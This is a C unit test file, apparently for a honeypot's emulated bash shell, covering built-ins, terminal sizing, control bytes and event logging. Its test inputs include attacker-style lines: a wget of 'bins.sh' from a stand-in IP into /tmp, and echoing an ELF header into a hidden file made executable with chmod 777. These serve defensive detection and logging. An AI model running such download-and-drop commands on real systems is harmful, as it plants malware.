    EXPECT_EVENT(0, "command.input", "cd /tmp && wgetx http://a/b\necho done");
    EXPECT_EVENT(1, "command.failed", "wgetx http://a/b");
    EXPECT(&f, "bash: line 1: wgetx: command not found\ndone\n");
    done(sh, &f);

    /* exec with a pty (ssh -t host cmd): ONLCR, no prompt, no banner */
    sh = mk(&f, (struct opts){ .interactive = true });
    hp_shell_exec(sh, "echo a; echo b", 14);
    EXPECT(&f, "a\r\nb\r\n");
    assert_int_equal(f.exits, 1);
    done(sh, &f);
}

static void test_script(void **state)
{
    (void)state;
    struct fake f;
    struct hp_shell *sh = mk(&f, (struct opts){ 0 });
    hp_shell_start(sh);                         /* no banner, no prompt */
    type(sh, "echo a\nfo");
    EXPECT(&f, "a\n");
    type(sh, "o\n\n   \necho $?\r\n");
    EXPECT(&f, "-bash: line 2: foo: command not found\n127\r\n");   /* the CR is data here */
    assert_int_equal(nevents, 4);               /* blank lines are no input */
    EXPECT_EVENT(3, "command.input", "echo $?\r");
    type(sh, "echo last");
    EXPECT(&f, "");
    hp_shell_eof(sh);                           /* an unterminated last line still runs */
    EXPECT(&f, "last\n");
    assert_int_equal(f.exits, 1);
    assert_int_equal(f.status, 0);
    done(sh, &f);

    sh = mk(&f, (struct opts){ 0 });
    type(sh, "echo a\nexit 7\necho no\n");
    EXPECT(&f, "a\n");
    assert_int_equal(f.exits, 1);
    assert_int_equal(f.status, 7);
    done(sh, &f);

    sh = mk(&f, (struct opts){ 0 });
    type(sh, "echo a\n; ls\necho after\n");
    EXPECT(&f, "a\n-bash: line 2: syntax error near unexpected token `;'\n-bash: line 2: `; ls'\n");
    assert_int_equal(f.status, 2);
    done(sh, &f);

    /* a line longer than 64 KiB is cut, the rest dropped until its newline */
    sh = mk(&f, (struct opts){ 0 });
    size_t n = 70000;
    char *big = malloc(n);
    memcpy(big, "echo ", 5);
    memset(big + 5, 'b', n - 5);
    typen(sh, big, n / 2);
    typen(sh, big + n / 2, n - n / 2);
    type(sh, "\necho ok\n");
    assert_int_equal(f.len, 65536 - 5 + 1 + 3);
    assert_memory_equal(f.out + f.len - 3, "ok\n", 3);
    assert_int_equal(events[0].len, 65536);
    free(big);
    hp_shell_eof(sh);
    assert_int_equal(f.exits, 1);
    done(sh, &f);
}

/* ---- built-ins ---------------------------------------------------------------------- */

static void test_echo_builtin(void **state)
{
    (void)state;
    EXEC_EQ("echo", "\n", 0);
    EXEC_EQ("echo -n a b; echo", "a b\n", 0);
    EXEC_EQ("echo -e 'a\\tb\\x41\\0102\\e[0m\\\\' ; echo -E 'a\\tb'", "a\tbAB\x1b[0m\\\na\\tb\n", 0);
    EXEC_EQ("echo -ne 'x\\n'; echo -nz; echo -- -n; echo -e 'stop\\chere' more", "x\n-nz\n-- -n\nstop", 0);
    EXEC_EQ("echo -e '\\q\\u00e9'", "\\q\xc3\xa9\n", 0);
    EXEC_EQ("echo \"a  b\"   c 'd  e' f\\ g \\$HOME", "a  b c d  e f g $HOME\n", 0);
    EXEC_EQ("X=1; echo $X ${X}y \"$X\" '$X' $NOPE. $'\\x41\\'b'", "1 1y 1 $X . A'b\n", 0);
    EXEC_EQ("echo $USER $HOME $SHELL $0 $#", "root /root /bin/bash bash 0\n", 0);
    EXEC_EQ("export A=b; echo $A; unset A; echo \"[$A]\"", "b\n[]\n", 0);
    EXEC_EQ("echo a # comment; echo b", "a\n", 0);
    EXEC_EQ("/bin/echo x; /usr/bin/echo y", "x\ny\n", 0);
}

static void test_uname_builtin(void **state)
{
    (void)state;
    EXEC_EQ("uname", "Linux\n", 0);
    char want[600];
    snprintf(want, sizeof(want), "%s\nx86_64\nbox.example.net\nGNU/Linux\nunknown\nunknown\n",
             pe()->kernel_release);
    EXEC_EQ("uname -r; uname -m; uname -n; uname -o; uname -p; uname -i", want, 0);
    snprintf(want, sizeof(want), "%s\n", uname_snrvm());
    EXEC_EQ("uname -snrvm", want, 0);
    snprintf(want, sizeof(want), "%s x86_64\n", pe()->kernel_release);
    EXEC_EQ("uname -m -r", want, 0);
    EXEC_EQ("uname --kernel-release --machine", want, 0);
    EXEC_EQ("uname -x", "uname: invalid option -- 'x'\nTry 'uname --help' for more information.\n", 1);
    EXEC_EQ("uname --bogus", "uname: unrecognized option '--bogus'\nTry 'uname --help' for more information.\n", 1);
    EXEC_EQ("uname foo", "uname: extra operand \xe2\x80\x98" "foo\xe2\x80\x99\nTry 'uname --help' for more information.\n", 1);
    int st;
    assert_true(strncmp(exec_out("uname --version", &st), "uname (GNU coreutils) 9.1\n", 26) == 0);
    assert_true(strncmp(exec_out("/usr/bin/uname --help", &st), "Usage: uname [OPTION]...\n", 25) == 0);
}

static void test_identity_builtins(void **state)
{
    (void)state;
    EXEC_EQ("whoami; id; id -u; id -un; pwd; hostname; hostname -s; hostname -d; hostname -i; hostname -I",
            "root\nuid=0(root) gid=0(root) groups=0(root)\n0\nroot\n/root\nbox.example.net\nbox\n"
            "example.net\n127.0.1.1\n198.51.100.10 \n", 0);
    EXEC_EQ("whoami x", "whoami: extra operand \xe2\x80\x98x\xe2\x80\x99\nTry 'whoami --help' for more information.\n", 1);
    EXEC_EQ("id nosuch", "id: \xe2\x80\x98nosuch\xe2\x80\x99: no such user\n", 1);
    EXEC_EQ("id -x", "id: invalid option -- 'x'\nTry 'id --help' for more information.\n", 1);
    EXEC_EQ("true; echo $?; false; echo $?; :; echo $?", "0\n1\n0\n", 0);

    struct fake f;
    struct hp_shell *sh = mk(&f, (struct opts){ .user = "admin" });
    const char *cmd = "id; whoami; pwd; echo $HOME; hostname newname";
    hp_shell_exec(sh, cmd, strlen(cmd));
    EXPECT(&f, "uid=1001(admin) gid=1001(admin) groups=1001(admin)\nadmin\n/home/admin\n/home/admin\n"
               "hostname: you must be root to change the host name\n");
    assert_int_equal(f.status, 1);
    done(sh, &f);
}

/* The longest line of the output, in bytes, CR not counted. */
static size_t longest_line(const struct fake *f)
{
    size_t longest = 0, cur = 0;
    for (size_t i = 0; i < f->len; i++) {
        if (f->out[i] == '\n') {
            longest = cur > longest ? cur : longest;
            cur = 0;
        } else if (f->out[i] != '\r') {
            cur++;
        }
    }
    return longest;
}

/* A client announcing 65535 x 65535 (Telnet NAWS, SSH pty-req) gets 512
 * columns: ls's column fit made a pass over the names per column count up
 * to a third of the width (21,845 passes over 4,000 long names: 25 times
 * the work at 80 columns) and laid them out on one 65535-column line. */
static void test_huge_terminal(void **state)
{
    (void)state;
    struct fake f;
    struct hp_shell *sh = mk(&f, (struct opts){ .interactive = true, .width = 65535, .height = 65535 });
    const char *cmd = "stty size; ls -C /usr/bin";
    hp_shell_exec(sh, cmd, strlen(cmd));
    assert_non_null(f.out);
    assert_true(f.len > 1000);
    assert_true(strncmp(f.out, "256 512\r\n", 9) == 0);
    assert_true(longest_line(&f) > 80 && longest_line(&f) < 512);   /* columns fitted to 512, not 65535 */
    done(sh, &f);

    /* a window change reaches the programs: stty and ls follow it */
    sh = mk(&f, (struct opts){ .interactive = true, .width = 65535, .height = 65535 });
    hp_shell_start(sh);
    hp_shell_resize(sh, 100, 40);
    f.len = 0;
    type(sh, "stty size\r");
    assert_non_null(strstr(f.out, "\r40 100\r\n"));
    f.len = 0;
    type(sh, "ls -C /usr/bin\r");
    assert_true(f.len > 1000 && longest_line(&f) > 80 && longest_line(&f) <= 100);
    hp_shell_resize(sh, 0, 0);                       /* unknown: what a terminal without a size gets */
    f.len = 0;
    type(sh, "stty size\r");
    assert_non_null(strstr(f.out, "\r24 80\r\n"));
    done(sh, &f);
}

static void test_hostile_bytes(void **state)
{
    (void)state;
    struct fake f;
    struct hp_shell *sh = mk(&f, (struct opts){ 0 });
    /* a command name with control bytes or non-UTF-8 is shown as $'...' (as
     * bash 5.2 does); the events have the exact bytes */
    const char cmd[] = "a\x01\x1b\x7f\\'b\xff;echo \0z;caf\xc3\xa9";
    hp_shell_exec(sh, cmd, sizeof(cmd) - 1);
    EXPECT(&f, "bash: line 1: $'a\\001\\E\\177\\'b\\377': command not found\n\n"
               "bash: line 1: caf\xc3\xa9: command not found\n");
    assert_int_equal(nevents, 3);
    expect_event(0, "command.input/b64", cmd, sizeof(cmd) - 1);
    expect_event(1, "command.failed/b64", "a\x01\x1b\x7f\\'b\xff", 8);
    EXPECT_EVENT(2, "command.failed", "caf\xc3\xa9");
    done(sh, &f);
}

static void test_api_edges(void **state)
{
    (void)state;
    assert_null(hp_shell_new(NULL));
    hp_shell_start(NULL);
    hp_shell_input(NULL, (const uint8_t *)"x", 1);
    hp_shell_exec(NULL, "x", 1);
    hp_shell_eof(NULL);
    hp_shell_resize(NULL, 1, 1);
    hp_shell_free(NULL);

    /* no callbacks, no context, no user, no host: nothing crashes */
    struct hp_shell_params p = { .interactive = true };
    struct hp_shell *sh = hp_shell_new(&p);
    hp_shell_start(sh);
    hp_shell_resize(sh, 200, 50);
    hp_shell_input(sh, (const uint8_t *)"nosuch\recho x\r\x04", 16);
    hp_shell_free(sh);

    /* without the hook, events go to the (not started) outputs */
    hp_shell_set_event_hook(NULL, NULL);
    struct fake f;
    memset(&f, 0, sizeof(f));
    struct hp_shell_params q = { .ctx = &ctx, .term = { fake_write, fake_exit, &f } };
    sh = hp_shell_new(&q);
    hp_shell_exec(sh, "nosuch", 6);
    assert_string_equal(f.out, "bash: line 1: nosuch: command not found\n");
    hp_shell_free(sh);
    free(f.out);
    hp_shell_set_event_hook(hook, NULL);
}

/* The JSON of event i contains needle. */
static void expect_json(int i, const char *eventid, const char *needle)
{
    assert_true(i < nevents);
    assert_string_equal(events[i].eventid, eventid);
    if (!strstr(events[i].json, needle)) {
        fprintf(stderr, "event %d: %s\nlacks: %s\n", i, events[i].json, needle);
        fail();
    }
}

static void test_line_events(void **state)
{
    (void)state;
    struct fake f;
    /* command.input carries the argv of what the line ran, after expansion */
    struct hp_shell *sh = mk(&f, (struct opts){ 0 });
    const char *cmd = "X='a b'; echo $X; true | false; nosuchcmd -v";
    hp_shell_exec(sh, cmd, strlen(cmd));
    EXPECT(&f, "a b\nbash: line 1: nosuchcmd: command not found\n");
    assert_int_equal(nevents, 2);
    expect_json(0, "command.input", "\"commands\":[[\"echo\",\"a\",\"b\"],[\"true\"],[\"false\"],"
                                    "[\"nosuchcmd\",\"-v\"]]");
    EXPECT_EVENT(1, "command.failed", "nosuchcmd -v");
    done(sh, &f);

    /* a download: the line's command.input comes first, then what it caused */
    sh = mk(&f, (struct opts){ .interactive = true, .term_type = "dumb" });
    hp_shell_start(sh);
    type(sh, "cd /tmp; wget http://192.0.2.7/bins.sh\r");
    assert_int_equal(nevents, 2);
    expect_json(0, "command.input", "\"commands\":[[\"cd\",\"/tmp\"],[\"wget\",\"http://192.0.2.7/bins.sh\"]]");
    expect_json(1, "session.file_download.failed", "\"url\":\"http://192.0.2.7/bins.sh\"");
    expect_json(1, "session.file_download.failed", "\"tool\":\"wget\"");
    expect_json(1, "session.file_download.failed", "\"found_in\":\"shell\"");
    expect_json(1, "session.file_download.failed", "\"destfile\":\"/tmp/bins.sh\"");
    /* no capture pipeline in a unit test: the URL is still logged, with why it was not fetched */
    expect_json(1, "session.file_download.failed", "\"reason\":\"not_started\"");
    clear_events();

    /* a file written in the shell is captured once, whole, when the session ends */
    type(sh, "echo -ne '\\x7fELF' > .x; echo -ne '\\x01\\x02' >> .x; chmod 777 .x\r");
    type(sh, "cat > /tmp/y <<EOF\r");
    EXPECT_PREFIX(&f);
    type(sh, "line one\r\rline three\r");
    type(sh, "EOF\r");
    /* one command.input per line received (not the blank one); the line that
     * completes the here-document carries what ran; nothing captured yet */
    assert_int_equal(nevents, 5);
    expect_json(1, "command.input", "\"input\":\"cat > /tmp/y <<EOF\",\"commands\":[]");
    expect_json(2, "command.input", "\"input\":\"line one\"");
    expect_json(4, "command.input", "\"input\":\"EOF\",\"commands\":[[\"cat\"]]");
    clear_events();
    type(sh, "cat /tmp/y; exit\r");
    assert_true(strstr(f.out, "line one\r\n\r\nline three\r\n") != NULL);
    hp_shell_free(sh);
    free(f.out);
    f.out = NULL;
    /* 7f 45 4c 46 01 02 and "line one\n\nline three\n" */
    assert_int_equal(nevents, 3);
    expect_json(0, "command.input", "\"input\":\"cat /tmp/y; exit\"");
    int x = strstr(events[1].json, "/tmp/.x") ? 1 : 2, y = 3 - x;
    expect_json(x, "session.file_upload", "\"filename\":\"/tmp/.x\"");
    expect_json(x, "session.file_upload", "\"size\":6");
    expect_json(x, "session.file_upload", "\"shasum\":\"541b46110b037abd97df399cc8530be2aa2c1b61eec18e690d8d7974274e9e28\"");
    expect_json(y, "session.file_upload", "\"filename\":\"/tmp/y\"");
    expect_json(y, "session.file_upload", "\"protocol_detail\":\"shell\"");
    clear_events();
}

static char idir[] = "/tmp/hanipo-test-shell-XXXXXX";

/* A sensor identity with a known host name, from which the personality is drawn. */
static int setup(void **state)
{
    (void)state;
    if (!mkdtemp(idir))
        return -1;
    char path[128], err[256];
    snprintf(path, sizeof(path), "%s/identity", idir);
    FILE *fp = fopen(path, "w");
    if (!fp)
        return -1;
    fputs("hostname=box.example.net\n", fp);
    fclose(fp);
    if (hp_identity_load(idir, err, sizeof(err)) != 0)
        return -1;
    hp_persona_reset();
    hp_shell_set_event_hook(hook, NULL);
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    clear_events();
    hp_shell_set_event_hook(NULL, NULL);
    char path[128];
    snprintf(path, sizeof(path), "%s/identity", idir);
    unlink(path);
    rmdir(idir);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_banner),
        cmocka_unit_test(test_exec_stderr_apart),
        cmocka_unit_test(test_default_identity),
        cmocka_unit_test(test_echo_and_enter),
        cmocka_unit_test(test_backspace),
        cmocka_unit_test(test_kill_line_and_word),
        cmocka_unit_test(test_ctrl_c),
        cmocka_unit_test(test_ctrl_d),
        cmocka_unit_test(test_ctrl_l_tab),
        cmocka_unit_test(test_escape_sequences),
        cmocka_unit_test(test_history),
        cmocka_unit_test(test_line_cap),
        cmocka_unit_test(test_unknown_command),
        cmocka_unit_test(test_chains),
        cmocka_unit_test(test_exit),
        cmocka_unit_test(test_free_in_exit),
        cmocka_unit_test(test_prompt_cwd),
        cmocka_unit_test(test_exec),
        cmocka_unit_test(test_oneshot),
        cmocka_unit_test(test_script),
        cmocka_unit_test(test_echo_builtin),
        cmocka_unit_test(test_uname_builtin),
        cmocka_unit_test(test_identity_builtins),
        cmocka_unit_test(test_huge_terminal),
        cmocka_unit_test(test_hostile_bytes),
        cmocka_unit_test(test_api_edges),
        cmocka_unit_test(test_line_events),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
